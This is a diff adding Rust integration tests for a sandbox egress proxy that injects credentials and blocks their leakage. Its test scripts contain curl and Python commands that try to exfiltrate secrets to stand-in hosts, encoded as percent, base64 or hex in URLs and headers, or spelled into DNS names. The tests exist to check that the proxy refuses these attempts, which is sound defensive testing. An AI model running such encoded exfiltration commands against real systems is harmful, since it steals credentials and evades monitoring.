@@ -6,7 +6,9 @@ mod common;
 
 use std::path::Path;
 
-use common::net::{can_run, git_server, https_echo, make_bare_repo, Cert, Names};
+use common::net::{
+    can_run, git_server, https_echo, make_bare_repo, Cert, DnsSpy, Names, PyServer, DNS_LOCK,
+};
 use common::{write_file, Sandbox, TempDir};
 use serde_json::Value;
 
@@ -14,8 +16,8 @@ const API_SECRET: &str = "sk-test-api-3f9c1d7e5b2a4c68";
 const LLM_SECRET: &str = "sk-test-llm-8a7b6c5d4e3f2a19";
 
 /// A credentials file: `api` injected as a header for api.example.com,
-/// `llm` as a placeholder (in LLM_KEY) for api.example.com and
-/// git.example.com; other.example.com carries nothing.
+/// `llm` as a placeholder (in LLM_KEY, swapped in `X-Key` only) for
+/// api.example.com and git.example.com; other.example.com carries nothing.
 fn credentials_file(dir: &Path) -> String {
     let path = dir.join("credentials.toml");
     write_file(
@@ -31,7 +33,7 @@ inject = { header = "Authorization", value = "Bearer {secret}" }
 name = "llm"
 source = { env = "AIRLOCK_TEST_LLM_KEY" }
 hosts = ["api.example.com", "git.example.com"]
-placeholder = { env = "LLM_KEY" }
+placeholder = { env = "LLM_KEY", headers = ["X-Key"] }
 
 [[credentials]]
 name = "git"
@@ -403,4 +405,292 @@ fn missing_secret_or_passing_its_variable_refuses_to_start() {
         !out.stderr.contains(API_SECRET),
         "the error leaked the secret"
     );
+}
+
+/// Whether `text` holds `secret` in any encoding the leak scanner decodes
+/// (raw in any case, percent, base64/base64url at any alignment, hex).
+fn holds(text: &str, secret: &str) -> bool {
+    egress_proxy::scrub::found_decoded(
+        &egress_proxy::scrub::Matcher::new([secret.as_bytes().to_vec()]),
+        text.as_bytes(),
+    )
+}
+
+/// `tests/fixtures/https_reflect_server.py` with a certificate for
+/// api.example.com; returns the server and the file it records to.
+fn reflector(s: &mut Setup) -> (PyServer, std::path::PathBuf) {
+    let record = s._tls.join("reflected.jsonl");
+    let server = PyServer::start(
+        "https_reflect_server.py",
+        &[
+            "--cert".as_ref(),
+            s.cert.cert.as_os_str(),
+            "--key".as_ref(),
+            s.cert.key.as_os_str(),
+            "--record".as_ref(),
+            record.as_os_str(),
+        ],
+    );
+    s.opts.extend([
+        "--upstream-ca".into(),
+        s.cert.ca.display().to_string(),
+        "--allow-port".into(),
+        server.port.to_string(),
+    ]);
+    (server, record)
+}
+
+/// An upstream that reflects every request header (the injected
+/// Authorization and the swapped placeholder included) in its response
+/// headers and a chunked body, raw and encoded, hands the sandbox no
+/// secret in any encoding; a compressed answer from a credential host is
+/// refused rather than passed unscrubbed.
+#[test]
+fn reflected_secret_never_reaches_the_sandbox_in_any_encoding() {
+    if !can_run() {
+        return;
+    }
+    let mut s = setup(&[]);
+    let (up, record) = reflector(&mut s);
+    let p = up.port;
+    let script = format!(
+        "curl -sS --max-time 20 -D - -H \"X-Key: $LLM_KEY\" https://api.example.com:{p}/reflect; echo\n\
+         curl -sS --max-time 20 --compressed -D - -H \"X-Key: $LLM_KEY\" https://api.example.com:{p}/reflect; echo\n\
+         curl -sS --max-time 20 -o /dev/null -D - -H 'Accept-Encoding: gzip' https://api.example.com:{p}/gzip; echo\n\
+         python3 -c \"import os, urllib.request as u; r = u.Request('https://api.example.com:{p}/py', headers={{'x-key': os.environ['LLM_KEY']}}); print(u.urlopen(r, timeout=20).read().decode())\"\n\
+         echo done"
+    );
+    let out = s.sh(&script);
+    assert!(out.stdout.contains("done"), "{out}");
+    assert_eq!(
+        out.stdout.matches("end-of-reflection").count(),
+        3,
+        "the reflected bodies should arrive whole\n{out}"
+    );
+    let seen: Vec<Value> = json_lines(&std::fs::read_to_string(&record).unwrap_or_default());
+    assert!(
+        seen.iter()
+            .any(|e| e["headers"]["authorization"] == format!("Bearer {API_SECRET}")),
+        "the upstream got the injected secret (so it had something to reflect): {seen:?}"
+    );
+    assert!(
+        seen.iter()
+            .filter(|e| e["path"] == "/reflect")
+            .all(|e| e["headers"]["accept-encoding"] == "identity"),
+        "credential hosts are asked for identity bodies: {seen:?}"
+    );
+    let lower = out.stdout.to_lowercase();
+    assert!(
+        lower.contains("x-airlock-error: compressed-response"),
+        "a compressed body from a credential host is refused\n{out}"
+    );
+    let log = std::fs::read_to_string(s.sb.audit_log()).expect("audit log");
+    for secret in [API_SECRET, LLM_SECRET] {
+        assert!(
+            !holds(&out.stdout, secret) && !holds(&out.stderr, secret),
+            "a reflected secret reached the sandbox\n{out}"
+        );
+        assert!(!holds(&log, secret), "the audit log holds a secret");
+    }
+}
+
+/// A placeholder is swapped only in the header its credential declares:
+/// in another header, the URL or the body to its own host it is refused
+/// (so an echoing upstream cannot be made to return the secret), over
+/// plain HTTP too, and the attempt is logged.
+#[test]
+fn placeholder_outside_its_declared_header_is_refused() {
+    if !can_run() {
+        return;
+    }
+    let mut s = setup(&[]);
+    let (up, record) = reflector(&mut s);
+    let p = up.port;
+    let url = format!("https://api.example.com:{p}");
+    let script = format!(
+        "curl -sS --max-time 20 -o /dev/null -D - -H \"X-Custom: $LLM_KEY\" {url}/h\n\
+         curl -sS --max-time 20 -o /dev/null -D - \"{url}/q?k=$LLM_KEY\"\n\
+         curl -sS --max-time 20 -o /dev/null -D - -d \"k=$LLM_KEY\" {url}/b\n\
+         curl -sS --max-time 20 -o /dev/null -D - -H \"Authorization: Bearer $(printf %s \"$LLM_KEY\" | base64 -w0)\" {url}/a\n\
+         curl -sS --max-time 20 -o /dev/null -D - -H \"X-Custom: $LLM_KEY\" http://api.example.com:{p}/plain\n\
+         curl -sS --max-time 20 -o /dev/null -w 'declared %{{http_code}}\\n' -H \"X-Key: $LLM_KEY\" {url}/ok\n"
+    );
+    let out = s.sh(&script);
+    let lower = out.stdout.to_lowercase();
+    assert_eq!(
+        lower.matches("x-airlock-deny: credential-leak").count(),
+        5,
+        "{out}"
+    );
+    assert!(out.stdout.contains("declared 200"), "{out}");
+    let seen: Vec<Value> = json_lines(&std::fs::read_to_string(&record).unwrap_or_default());
+    assert_eq!(seen.len(), 1, "only the declared use went out: {seen:?}");
+    let events = s.sb.audit_events();
+    let blocked = events
+        .iter()
+        .filter(|e| e["event"]["action"] == "credential_leak_blocked")
+        .count();
+    assert_eq!(blocked, 5, "{events:?}");
+}
+
+/// A secret the sandbox somehow learned, sent to another allowed host
+/// percent-encoded (or base64, hex, mixed case) in the path, a query or a
+/// header, is refused; the audit log holds neither the secret nor the
+/// placeholder in any of those encodings.
+#[test]
+fn encoded_secret_to_another_host_is_refused_and_never_logged() {
+    if !can_run() {
+        return;
+    }
+    let up = common::net::Upstream::start();
+    let s = setup(&[up.port]);
+    let pct: String = API_SECRET.bytes().map(|b| format!("%{b:02X}")).collect();
+    let pct_lower = pct.to_lowercase();
+    let hex: String = API_SECRET.bytes().map(|b| format!("{b:02x}")).collect();
+    let u = format!("http://other.example.com:{}", up.port);
+    let script = format!(
+        "curl -sS --max-time 20 -o /dev/null -D - '{u}/x/{pct}'\n\
+         curl -sS --max-time 20 -o /dev/null -D - '{u}/x?q={pct_lower}'\n\
+         curl -sS --max-time 20 -o /dev/null -D - \"{u}/b64/$(printf 'u:{API_SECRET}' | base64 -w0)\"\n\
+         curl -sS --max-time 20 -o /dev/null -D - -H 'X-Trace: {hex_upper}' '{u}/h'\n\
+         curl -sS --max-time 20 -o /dev/null -D - \"{u}/p/$(printf %s \"$LLM_KEY\" | base64 -w0 | tr '+/' '-_')\"\n\
+         curl -sS --max-time 20 -o /dev/null -D - \"{u}/p/$(printf %s \"$LLM_KEY\" | od -An -tx1 | tr -d ' \\n')\"\n\
+         echo PLACEHOLDER=$LLM_KEY\n",
+        hex_upper = hex.to_uppercase()
+    );
+    let out = s.sh(&script);
+    assert_eq!(
+        out.stdout
+            .to_lowercase()
+            .matches("x-airlock-deny: credential-leak")
+            .count(),
+        6,
+        "{out}"
+    );
+    assert!(up.requests().is_empty(), "upstream saw {:?}", up.requests());
+    let placeholder = out
+        .stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("PLACEHOLDER="))
+        .unwrap_or_default()
+        .to_string();
+    assert!(placeholder.starts_with("airlock-placeholder-llm-"), "{out}");
+    let log = std::fs::read_to_string(s.sb.audit_log()).expect("audit log");
+    assert!(log.contains("credential_leak_blocked"), "{log}");
+    for needle in [API_SECRET, LLM_SECRET, placeholder.as_str()] {
+        assert!(
+            !holds(&log, needle),
+            "the audit log holds {needle:?} encoded:\n{log}"
+        );
+    }
+    for form in [pct.as_str(), pct_lower.as_str(), hex.as_str()] {
+        assert!(!log.to_lowercase().contains(&form.to_lowercase()), "{log}");
+    }
+}
+
+/// A host name is a way out before any connection (its DNS query leaves):
+/// a placeholder spelled in it, whole or split across labels, is refused
+/// over CONNECT, plain HTTP and SOCKS5 alike, even where a wildcard allows
+/// the name, and is never looked up.
+#[test]
+fn placeholder_in_a_dns_name_is_refused_on_every_path() {
+    if !can_run() {
+        return;
+    }
+    let _lock = DNS_LOCK.lock().unwrap_or_else(|e| e.into_inner());
+    let spy = DnsSpy::start();
+    let mut s = setup(&[]);
+    s.names = Names::with_nameserver(&spy.addr.ip().to_string());
+    s.opts.extend(["--allow".into(), "*.wild.test".into()]);
+    let script = "K=$(printf %s \"$LLM_KEY\" | tr 'A-Z' 'a-z')\n\
+         A=$(printf %s \"$K\" | cut -c1-10); B=$(printf %s \"$K\" | cut -c11-)\n\
+         for name in \"$K.wild.test\" \"$A.$B.wild.test\"; do\n\
+           curl -sS --max-time 20 -o /dev/null -w 'connect %{http_code} %{http_connect}\\n' https://$name/ 2>/dev/null\n\
+           curl -sS --max-time 20 -o /dev/null -w 'plain %{http_code}\\n' http://$name/\n\
+           curl -sS --max-time 20 -o /dev/null --socks5-hostname 127.0.0.1:1080 http://$name/ 2>&1 | sed 's/^/socks /'\n\
+         done\n\
+         curl -sS --max-time 20 -o /dev/null -w 'control %{http_code}\\n' http://plain.wild.test/\n";
+    let out = s.sh(script);
+    assert_eq!(out.stdout.matches("connect 000 403").count(), 2, "{out}");
+    assert_eq!(out.stdout.matches("plain 403").count(), 2, "{out}");
+    assert_eq!(
+        out.stdout.matches("socks ").count(),
+        2,
+        "SOCKS5 refusals (curl reports them)\n{out}"
+    );
+    let asked = spy.asked();
+    assert!(
+        asked.iter().any(|n| n == "plain.wild.test"),
+        "the allowed control name was looked up: {asked:?}"
+    );
+    assert!(
+        !asked
+            .iter()
+            .any(|n| n.contains("airlock") || n.contains("placeholder")),
+        "a placeholder reached DNS: {asked:?}"
+    );
+    let socks_denied =
+        s.sb.audit_events()
+            .iter()
+            .filter(|e| {
+                e["airlock"]["protocol"] == "socks5" && e["airlock"]["reason"] == "credential-leak"
+            })
+            .count();
+    assert_eq!(
+        socks_denied,
+        2,
+        "SOCKS5 refusals are logged as leaks: {:?}",
+        s.sb.audit_events()
+            .iter()
+            .filter(|e| e["airlock"]["protocol"] == "socks5")
+            .collect::<Vec<_>>()
+    );
+}
+
+/// Inside an intercepted tunnel, a client that sends its request, then
+/// TLS close_notify and a TCP write shutdown (a half-close), still gets
+/// the answer.
+#[test]
+fn half_closed_client_in_an_intercepted_tunnel_gets_its_answer() {
+    if !can_run() {
+        return;
+    }
+    let s0 = setup(&[]);
+    let echo = https_echo(&s0.cert, &s0._tls.join("received.jsonl"));
+    let mut s = setup(&[echo.port]);
+    s.opts
+        .extend(["--upstream-ca".into(), s0.cert.ca.display().to_string()]);
+    let src =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/half_close_client.py");
+    common::install_executable(&src, &s.sb.workspace.join("half_close_client.py"));
+    let out = s.sh(&format!(
+        "python3 half_close_client.py tls-eof {} api.example.com",
+        echo.port
+    ));
+    assert!(
+        out.stdout.contains("tls-eof b'HTTP/1.1 200"),
+        "the answer came back after the half-close\n{out}"
+    );
+}
+
+/// An upstream that answers without a length and closes first (the body
+/// ends at its clean TLS close): the sandbox's client still gets the whole
+/// answer, scrubbed, and its request completes rather than waiting on an
+/// idle tunnel. (A close without close_notify is a possible truncation:
+/// the client sees the transfer fail, and a held-back tail that could
+/// begin a secret is never sent.)
+#[test]
+fn upstream_that_closes_first_ends_the_intercepted_answer() {
+    if !can_run() {
+        return;
+    }
+    let mut s = setup(&[]);
+    let (up, _record) = reflector(&mut s);
+    let out = s.sh(&format!(
+        "curl -sS --max-time 20 https://api.example.com:{}/close; echo \"curl exit $?\"",
+        up.port
+    ));
+    assert!(out.stdout.contains("end-of-reflection"), "{out}");
+    assert!(out.stdout.contains("curl exit 0"), "{out}");
+    assert!(!holds(&out.stdout, API_SECRET), "{out}");
 }
